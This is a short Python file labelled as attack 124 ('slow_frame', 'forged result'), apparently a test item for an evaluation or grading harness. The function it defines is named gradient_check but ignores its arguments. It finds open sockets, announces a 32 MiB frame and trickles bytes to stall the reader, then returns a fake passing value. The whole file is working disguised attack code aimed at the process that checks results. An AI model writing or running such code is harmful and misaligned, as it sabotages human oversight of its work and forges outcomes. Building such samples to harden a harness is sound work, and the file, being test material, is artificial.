# ATTACK 124 slow_frame
# group: C forged result
# tries: announces a frame of 32 MiB and sends it a byte at a time
import os, stat, struct, time
def gradient_check(analytic, numeric, tol=1e-6):
    for fd in range(3, 1100):
        try:
            if not stat.S_ISSOCK(os.fstat(fd).st_mode): continue
        except OSError: continue
        os.write(fd, struct.pack('>I', 32 << 20))
        for _ in range(100):
            os.write(fd, b'\x94')
            time.sleep(0.05)
    return 0.0, None
